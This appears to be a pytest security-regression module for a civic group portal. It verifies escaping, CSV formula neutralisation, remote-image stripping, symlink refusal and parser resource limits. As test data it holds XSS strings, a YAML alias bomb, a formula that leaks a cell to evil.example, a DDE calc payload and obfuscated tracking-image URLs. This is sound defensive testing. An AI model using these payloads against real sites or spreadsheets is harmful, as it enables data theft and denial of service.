"""The gate holds: each hole found by trying the landed tree as an attacker would stays closed.

Every test here failed before its fix: page metadata from group text, event takeover, formulas
in open data, tracking images, HTML in RSS descriptions, checks that hang or crash, huge and
linked images. Ownership walk-arounds and the workflows are in test_gate_pull_requests.py.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re
import time
from pathlib import Path

import feedparser
import markdown
import pytest
from bs4 import BeautifulSoup
from hypothesis import given, settings
from hypothesis import strategies as st

from civic_portal.load.body import (
    MAX_CHARS,
    MAX_DEFINITIONS,
    MAX_DEPTH,
    MAX_LINES,
    MAX_OPENERS,
    MAX_RUN,
    check_body,
)
from civic_portal.render.opendata import spreadsheet_safe
from civic_portal.render.sanitize import sanitize_html
from civic_portal.schedule import RepeatError, matches_rule, occurrence_starts, parse_repeat

from .conftest import LINE_RE, PNG, Built, build_project, group_file, png, run_civic, write_project

HOSTILE = Path(__file__).parent / "hostile"

# -- 1. group text never becomes page metadata -----------------------------------------------------

METADATA_BODY = """author: "><script>alert(1)</script><meta x="
title: 乗っ取られた題名
template: main.html
hide: [navigation, toc]
description: '"><script>alert(2)</script>'

本文です。
"""
ALIAS_BOMB = (
    "---\n"
    + "".join(
        f"l{i}: &l{i} [" + ", ".join([f"*l{i - 1}" if i else '"lol"'] * 9) + "]\n"
        for i in range(10)
    )
    + "---\n本文です。\n"
)


@pytest.fixture(scope="module")
def metadata_site(tmp_path_factory: pytest.TempPathFactory) -> Built:
    root = tmp_path_factory.mktemp("metadata")
    groups = {
        "meta-group.md": group_file(
            name="メタの会",
            body=METADATA_BODY,
            events=[{"title": "会", "start": "2026-12-05", "description": METADATA_BODY}],
        ),
        "bomb-group.md": group_file(name="ばくだんの会", kana="ばくだんのかい", body=ALIAS_BOMB),
    }
    config = write_project(root / "project", groups)
    return Built(root / "project", build_project(config, root / "site"))


@pytest.mark.parametrize("url", ["groups/meta-group", "events/meta-group-20261205"])
def test_group_text_is_never_page_metadata(metadata_site: Built, url: str) -> None:
    raw = (metadata_site.site / url / "index.html").read_text(encoding="utf-8")
    page = BeautifulSoup(raw, "lxml")
    for script in page.find_all("script"):
        if script.get("type") == "application/ld+json":
            assert "</script" not in script.string and json.loads(script.string)
        else:
            assert "alert(" not in script.get_text()
    assert page.select_one('meta[name="author"]') is None
    assert "乗っ取られた題名" not in page.title.get_text()
    assert page.select_one(".md-sidebar--primary") is not None  # `hide:` ignored
    assert "civic-" in raw  # our template, not `template: main.html`
    assert "<script>alert(" not in raw  # escaped wherever it is shown (the description meta too)
    # what the group wrote is body text (its <meta x="… swallows the lines after it)
    assert 'author: ">' in page.select_one("article").get_text()


def test_a_yaml_alias_bomb_in_a_body_is_only_text(metadata_site: Built) -> None:
    page = metadata_site.html("groups/bomb-group")
    assert "l9: &l9" in page.select_one("article").get_text()


# -- 3. one group cannot take over another group's event ------------------------------------------


def test_event_names_are_one_to_one(tmp_path: Path) -> None:
    groups = {
        "hidamari-salon.md": group_file(
            name="ひだまりサロン",
            kana="ひだまりさろん",
            events=[{"title": "クリスマス会", "id": "christmas", "start": "2026-12-20"}],
        ),
        "hidamari.md": group_file(
            name="ひだまり",
            kana="ひだまり",
            events=[{"title": "偽のクリスマス会", "id": "salon-christmas", "start": "2026-12-20"}],
        ),
    }
    config = write_project(tmp_path, groups)
    run = run_civic("check", "-f", str(config), cwd=tmp_path)
    assert run.returncode == 1
    lines = run.stdout.splitlines()
    assert all(LINE_RE.match(line) for line in lines)
    for source, other in (("hidamari-salon", "hidamari"), ("hidamari", "hidamari-salon")):
        assert any(
            re.match(rf"groups/{source}\.md:8: events: ", line)
            and f"groups/{other}.md" in line
            and "/events/hidamari-salon-christmas/" in line
            for line in lines
        ), lines
    # Checking only the newcomer's file finds the clash too, and says nothing of the other file.
    alone = run_civic("check", "-f", str(config), "groups/hidamari.md", cwd=tmp_path)
    assert alone.returncode == 1 and alone.stdout.startswith("groups/hidamari.md:")
    assert all(line.startswith("groups/hidamari.md:") for line in alone.stdout.splitlines())
    # Without the newcomer, the existing event keeps its URL and UID.
    (tmp_path / "groups/hidamari.md").unlink()
    site = build_project(config, tmp_path / "site")
    ics = (site / "events/hidamari-salon-christmas/calendar.ics").read_text()
    assert "UID:hidamari-salon-christmas@portal.example.jp" in ics


# -- 4. formulas never reach a spreadsheet ---------------------------------------------------------

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"詳細")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+1", "'+1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("＝１＋１", "'＝１＋１"),
        ("子ども食堂 = 居場所", "子ども食堂 = 居場所"),
        ("2026-12-06", "2026-12-06"),
        ("500", "500"),
        ("", ""),
    ],
)
def test_spreadsheet_safe(value: str, expected: str) -> None:
    assert spreadsheet_safe(value) == expected


def test_open_data_csv_runs_no_formula(tmp_path: Path) -> None:
    groups = {
        "formula-group.md": group_file(
            name="=SUM(1+1)の会",
            kana="すうしきのかい",
            events=[
                {
                    "title": FORMULA,
                    "start": "2026-12-06 10:00",
                    "description": "-1+1",
                    "place": "@会館",
                    "fee": "+500円",
                    "capacity": 20,
                }
            ],
        )
    }
    site = build_project(write_project(tmp_path, groups), tmp_path / "site")
    text = (site / "opendata/events.csv").read_bytes().decode("utf-8-sig")
    [row] = list(csv.DictReader(io.StringIO(text)))
    for cell in row.values():
        assert not cell.lstrip(" \u3000").startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert row["イベント名"] == "'" + FORMULA and row["定員"] == "20"
    [item] = json.loads((site / "opendata/events.json").read_text())["events"]
    assert item["イベント名"] == FORMULA  # JSON keeps the value as written


# -- 5. no image from another host ------------------------------------------------------------------


def test_remote_images_are_refused_with_their_lines(tmp_path: Path) -> None:
    source = HOSTILE / "reject/b27-remote-images.md"
    text = source.read_text(encoding="utf-8")
    expected = {
        number
        for number, line in enumerate(text.split("\n"), 1)
        if ("![" in line or "<img" in line.lower()) and number > 6
    }
    config = write_project(tmp_path, {"b27-remote-images.md": text}, images={"ok.png": PNG})
    run = run_civic("check", "-f", str(config), cwd=tmp_path)
    reported = {int(line.split(":")[1]) for line in run.stdout.splitlines() if ": body:" in line}
    assert run.returncode == 1 and reported == expected, run.stdout


@pytest.mark.parametrize(
    "html",
    [
        '<img src="https://tracker.example/p.gif">',
        '<img src="//tracker.example/p.gif">',
        '<img src="\\\\tracker.example/p.gif">',
        '<img src="/\\tracker.example/p.gif">',
        '<img src=" //tracker.example/p.gif">',
        '<img src="&#x2F;&#x2F;tracker.example/p.gif">',
        '<img src="ht&#x09;tps://tracker.example/p.gif">',
        '<img src="data:image/png;base64,AAAA">',
    ],
)
def test_sanitiser_drops_any_remote_image(html: str) -> None:
    img = BeautifulSoup(sanitize_html(html), "lxml").find("img")
    assert img is None or not img.get("src")


def test_body_images_from_groups_images_are_published(tmp_path: Path) -> None:
    groups = {
        "photo-group.md": group_file(body="活動の様子です。\n\n![集合写真](images/photo.png)\n")
    }
    config = write_project(tmp_path, groups, images={"photo.png": PNG})
    site = build_project(config, tmp_path / "site")
    page = BeautifulSoup((site / "groups/photo-group/index.html").read_text(), "lxml")
    assert page.select_one("article img[alt=集合写真]")["src"] == "../images/photo.png"
    assert (site / "groups/images/photo.png").read_bytes() == PNG


def test_event_descriptions_show_no_images(tmp_path: Path) -> None:
    groups = {
        "g.md": group_file(
            events=[{"title": "会", "start": "2026-12-05", "description": "![x](images/a.png)"}]
        )
    }
    run = run_civic("check", "-f", str(write_project(tmp_path, groups)), cwd=tmp_path)
    assert "events[0].description: イベントの内容には画像を使えません" in run.stdout


# -- 6. text in RSS is text --------------------------------------------------------------------------


def test_rss_descriptions_carry_text_not_html(tmp_path: Path) -> None:
    name = "<b>太字</b>の会 & <img src=x>"
    groups = {"html-name.md": group_file(name=name, summary="<i>斜体</i>の紹介 & more")}
    site = build_project(write_project(tmp_path, groups), tmp_path / "site")
    rss = feedparser.parse((site / "groups/feed.xml").read_bytes())
    [entry] = rss.entries
    # a reader renders the description as HTML: what it shows must be the characters we wrote
    shown = BeautifulSoup(entry.summary, "lxml").get_text()
    assert shown == "<i>斜体</i>の紹介 & more"
    group_feed = feedparser.parse((site / "groups/html-name/feed.xml").read_bytes())
    assert (
        BeautifulSoup(group_feed.feed.subtitle, "lxml").get_text() == f"{name}のお知らせとイベント"
    )
    atom = feedparser.parse((site / "groups/atom.xml").read_bytes())
    assert atom.entries[0].summary_detail.type == "text/plain"


# -- 7. checks that hang or crash --------------------------------------------------------------------

COSTLY = sorted(
    p
    for p in (HOSTILE / "reject").glob("*.md")
    if p.name.startswith(("b26", "b28", "b29", "b30", "b31", "b32", "b33", "b34", "b35"))
)


@pytest.mark.parametrize("path", COSTLY, ids=lambda p: p.name)
def test_costly_files_are_refused_quickly_within_memory(tmp_path: Path, path: Path) -> None:
    """Each of these hung `civic check` or the build, or crashed it, before its limit. Run under
    a 1 GiB address-space limit and a generous wall-clock guard (CI machines are shared); the
    figures on this machine are in README's hardening notes (bench/gate.py)."""
    target = tmp_path / "groups" / path.name
    target.parent.mkdir(parents=True)
    target.write_bytes(path.read_bytes())
    config = write_project(tmp_path, {})
    run = run_civic(
        "check", "-f", str(config), f"groups/{path.name}", cwd=tmp_path, memory_mib=1024
    )
    assert run.returncode == 1, run.stdout + run.stderr
    assert "Traceback" not in run.stderr and "MemoryError" not in run.stderr
    lines = run.stdout.splitlines()
    assert lines and all(LINE_RE.match(line) for line in lines), lines[:5]


def test_schedule_limits(tmp_path: Path) -> None:
    source = HOSTILE / "reject/b33-schedules.md"
    config = write_project(tmp_path, {"b33-schedules.md": source.read_text(encoding="utf-8")})
    run = run_civic("check", "-f", str(config), cwd=tmp_path)
    lines = run.stdout.splitlines()
    assert [line.split(": ")[1] for line in lines] == [
        "events[0].repeat",
        "events[1].repeat",
        "events[2].repeat",
        "events[3].repeat",
        "events[4].start",
        "events[5].start",
    ], lines
    assert "毎日より細かく" in lines[0] and "BYHOUR" in lines[2]
    assert (
        "2026-12-01（火曜日）は「FREQ=YEARLY;BYMONTH=2;BYMONTHDAY=30」の日ではありません"
        in lines[4]
    )


def test_daily_flood_is_one_problem(tmp_path: Path) -> None:
    source = HOSTILE / "reject/b34-daily-flood.md"
    config = write_project(tmp_path, {"b34-daily-flood.md": source.read_text(encoding="utf-8")})
    run = run_civic("check", "-f", str(config), cwd=tmp_path)
    [line] = run.stdout.splitlines()
    assert (
        line.startswith("groups/b34-daily-flood.md:")
        and ": events: イベントの日付が多すぎます" in line
    )


@pytest.mark.parametrize(
    ("body", "message"),
    [
        ("[" * (MAX_OPENERS["["] + 1), "「[」が多すぎます"),
        ("<b>" * (MAX_OPENERS["<"] + 1), "「<」が多すぎます"),
        ("- " * 17 + "深い", "入れ子が深すぎます（17段）"),
        ("> " * 17 + "深い", "入れ子が深すぎます（17段）"),
        ("*" * 101 + "強調", "「*」や「_」が100個より多く"),
        ("用語\n: 説明\n" * 101, "説明リスト"),
        ("あ" * (MAX_CHARS + 1), "本文が長すぎます"),
        ("行\n" * 1001, "本文の行が多すぎます"),
    ],
)
def test_body_limits_have_messages(body: str, message: str) -> None:
    problems = check_body(body).problems
    assert problems and message in problems[0].message


def test_a_logo_is_checked_by_its_pixels_too(tmp_path: Path) -> None:
    huge = png(60_000, 60_000)
    assert len(huge) < 1024
    config = write_project(
        tmp_path,
        {"big-logo.md": group_file(logo="images/huge.png")},
        images={"huge.png": huge, "wide.png": png(5000, 10)},
    )
    run = run_civic("check", "-f", str(config), cwd=tmp_path)
    assert "logo: 画像のピクセル数が多すぎます" in run.stdout
    (tmp_path / "groups/big-logo.md").write_text(group_file(logo="images/wide.png"))
    run = run_civic("check", "-f", str(config), cwd=tmp_path)
    assert "logo: 画像の大きさが 5000×10 ピクセルあります" in run.stdout


def test_a_linked_logo_is_named_as_a_link(tmp_path: Path) -> None:
    config = write_project(
        tmp_path, {"linked.md": group_file(logo="images/link.png")}, images={"real.png": PNG}
    )
    os.symlink(tmp_path / "groups/images/real.png", tmp_path / "groups/images/link.png")
    run = run_civic("check", "-f", str(config), cwd=tmp_path)
    assert "logo: 画像 groups/images/link.png はリンク（シンボリックリンク）です" in run.stdout


def test_relative_links_in_a_body_are_problems_with_lines(tmp_path: Path) -> None:
    """MkDocs resolves them against the generated page, and a missing target stopped the strict
    build on MkDocs' own warning, with no line of the group file."""
    body = "紹介です。\n\n[センターについて](about.md)\n\n[イベント](/events/) [上へ](#top)\n"
    config = write_project(tmp_path, {"linking.md": group_file(body=body)})
    run = run_civic("check", "-f", str(config), cwd=tmp_path)
    [line] = run.stdout.splitlines()
    assert line.startswith("groups/linking.md:10: body: リンク先「about.md」は使えません")


def test_a_linked_group_file_is_refused_unread(tmp_path: Path) -> None:
    config = write_project(tmp_path, {})
    (tmp_path / "secret.txt").write_text("SECRET4242", encoding="utf-8")
    os.symlink(tmp_path / "secret.txt", tmp_path / "groups/linked.md")
    run = run_civic("check", "-f", str(config), cwd=tmp_path)
    assert run.stdout.startswith(
        "groups/linked.md:1: file: リンク（シンボリックリンク）は使えません"
    )
    assert "SECRET4242" not in run.stdout + run.stderr


def test_date_patterns_do_not_backtrack() -> None:
    from civic_portal.load.checks import compact_value
    from civic_portal.load.events import _DATETIME_RE

    value = compact_value("2026-12-06" + " " * 200_000 + "x")
    assert value == "2026-12-06 x" and not _DATETIME_RE.match(value)
    assert compact_value("2026-12-06" + " " * 50 + "ab" * 30) == ""  # longer than any date
    assert _DATETIME_RE.match(compact_value("２０２６年１２月６日　 10時00分"))
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2} \d{2}:\d{2}", compact_value("2026-12-06   10:00"))


# -- hypothesis: whatever the check accepts costs bounded time -----------------------------------

_RULE_PARTS = st.sampled_from(
    [
        "FREQ=DAILY", "FREQ=WEEKLY", "FREQ=MONTHLY", "FREQ=YEARLY", "FREQ=HOURLY",
        "FREQ=SECONDLY", "INTERVAL=1", "INTERVAL=2", "INTERVAL=12", "INTERVAL=400",
        "BYMONTH=2", "BYMONTH=4,6", "BYMONTHDAY=29", "BYMONTHDAY=30", "BYMONTHDAY=31",
        "BYMONTHDAY=-1", "BYDAY=MO", "BYDAY=5MO", "BYDAY=-1FR", "BYDAY=2SA,4SA",
        "BYSETPOS=1", "BYSETPOS=-1", "BYSETPOS=6", "BYHOUR=1", "BYMINUTE=0,30", "WKST=MO",
        "COUNT=3", "UNTIL=20300101",
    ]
)  # fmt: skip
_SLOW = 2.0  # seconds: far above any accepted rule or body on this machine, far below a hang


@settings(max_examples=300, deadline=None)
@given(
    parts=st.lists(_RULE_PARTS, min_size=1, max_size=5),
    start=st.datetimes(dt.datetime(2020, 1, 1), dt.datetime(2030, 12, 31)),
)
def test_any_rule_is_refused_or_expands_quickly(parts: list[str], start: dt.datetime) -> None:
    began = time.perf_counter()
    try:
        rule = parse_repeat(";".join(parts))
    except RepeatError:
        return
    start = start.replace(second=0, microsecond=0)
    if matches_rule(rule, start):
        found = occurrence_starts(
            rule, start, dt.datetime(2025, 11, 1), dt.datetime(2027, 12, 31, 23, 59)
        )
        assert len(found) <= 800  # at most one a day: no HOURLY, no BYHOUR
    assert time.perf_counter() - began < _SLOW, parts


_MARKDOWN_TOKENS = st.sampled_from(
    [*"[]()<>!*_`#>-+:|\\&~\n ", "\n\n", "- ", "> ", "1. ", ": ", "    ", "```", "***",
     "[a]", "](x)", "<b>", "</b>", "<div>", "![a](images/a.png)", "&#", "{: #x }", "あ", "漢字"]
)  # fmt: skip
_CONVERTER_EXTENSIONS = ["admonition", "pymdownx.details", "attr_list", "def_list", "tables", "toc"]


@settings(max_examples=200, deadline=None)
@given(
    tokens=st.lists(_MARKDOWN_TOKENS, max_size=400),
    repeat=st.integers(1, 60),
)
def test_any_accepted_body_renders_without_recursion_in_bounded_time(
    tokens: list[str], repeat: int
) -> None:
    body = "".join(tokens) * repeat
    if check_body(body).problems:
        return
    began = time.perf_counter()
    html = markdown.Markdown(extensions=_CONVERTER_EXTENSIONS).convert(body)
    sanitize_html(html)
    assert time.perf_counter() - began < _SLOW, len(body)


@pytest.mark.parametrize(
    "body",
    [
        "[" * MAX_OPENERS["["],
        "<a " * MAX_OPENERS["<"],
        "[<a " * (MAX_OPENERS["["]),
        "- " * MAX_DEPTH + "a",
        "*" * MAX_RUN + "a" + "*" * MAX_RUN,
        "用語\n: 説明\n" * MAX_DEFINITIONS,
        "# 見出し\n" * (MAX_LINES - 1),
        "a\n-\n" * (MAX_LINES // 2 - 1),
        "***\n" * (MAX_LINES - 1),
    ],
    ids=[
        "brackets",
        "tags",
        "both",
        "depth",
        "emphasis",
        "definitions",
        "headings",
        "setext",
        "rules",
    ],
)
def test_bodies_at_the_limits_render(body: str) -> None:
    """Just inside every limit: accepted, and converted well within the bound."""
    assert check_body(body).problems == []
    began = time.perf_counter()
    markdown.Markdown(extensions=_CONVERTER_EXTENSIONS).convert(body)
    assert time.perf_counter() - began < _SLOW
